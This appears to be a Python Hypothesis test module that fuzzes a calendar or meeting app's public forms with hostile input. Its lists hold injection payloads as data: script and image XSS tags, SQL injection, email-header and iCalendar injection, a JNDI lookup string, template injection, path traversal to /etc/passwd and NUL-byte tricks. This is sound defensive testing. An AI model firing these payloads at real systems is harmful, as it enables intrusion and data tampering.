"""Hostile input for public forms: markup, SQL, header and calendar injection, NUL bytes,
right-to-left overrides, emoji, huge strings, made-up and path-like time zones, odd dates."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from typing import Any

from hypothesis import Phase, settings
from hypothesis import strategies as st

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=1>'
NASTY: tuple[str, ...] = (
    SCRIPT,
    IMG,
    "'; DROP TABLE meeting; --",
    "1' OR '1'='1' --",
    "Robert\x00Tables",
    "\x00",
    "Gina\r\nBcc: victim@example.org",
    "\r\nX-Injected: 1",
    "Gina\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected",
    "\u202egnp.exe\u202c",  # right-to-left override
    "مرحبا بالعالم",
    "👩‍👩‍👧‍👦🎉",
    "Z̸̢͍̞a̴l̶g̷o",
    "${jndi:ldap://example.org/x}",
    "{{7*7}}",
    "%00%0d%0a",
    "../../etc/passwd",
    "",
    "   ",
    "\t\n\r",
    "x" * 100_000,
)
ZONES: tuple[str, ...] = (
    "Mars/Olympus",
    "../../etc/passwd",
    "/etc/localtime",
    "Europe/../../../etc/passwd",
    "posix/Europe/Berlin",
    "right/UTC",
    "localtime",
    "Factory",
    "UTC\x00",
    "Europe/Berlin\n",
    "Europe/Berlin\x00../../etc/passwd",
    "",
    "z" * 5000,
    "Europe/Berlin",  # real ones too: the refusals must not be the only path
    "Pacific/Kiritimati",
    "America/New_York",
)

# Hostile but valid names: they must be stored and shown back as the text they are.
NAMES = tuple(n for n in NASTY[:16] if n.isprintable() and n.strip())
# Text a browser form or a JSON body can carry (lone surrogates are tested on their own).
hostile_text = st.one_of(st.sampled_from(NASTY), st.text(max_size=300))
names = st.one_of(st.sampled_from(NAMES), hostile_text)
zones = st.one_of(st.sampled_from(ZONES), st.text(max_size=40))
emails = st.one_of(
    st.sampled_from(("gina@example.org", "GINA@Example.ORG", f"{SCRIPT}@example.org")),
    st.emails(),
    hostile_text,
)
offsets = st.integers(min_value=-23 * 60 - 59, max_value=23 * 60 + 59).map(
    lambda m: timezone(timedelta(minutes=m))
)
# Impossible-ish dates: naive times, odd offsets, far past and future (within years 1900-2200:
# the ends of time are tested apart, see test_hostile_forms).
instants = st.one_of(
    st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2200, 1, 1)),
    st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2200, 1, 1), timezones=offsets),
    st.datetimes(
        min_value=datetime(2026, 11, 20), max_value=datetime(2027, 2, 1), timezones=st.just(UTC)
    ),
)


def mostly(valid: object, hostile: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """`valid` about three times in four, else `hostile`: whole records get through too."""
    return st.one_of(st.just(valid), st.just(valid), st.just(valid), hostile)


# No explain phase: on a failure it reruns hundreds of database examples to annotate lines.
PHASES = (Phase.explicit, Phase.reuse, Phase.generate, Phase.shrink)
FORMS = settings(max_examples=40, derandomize=True, database=None, deadline=None, phases=PHASES)
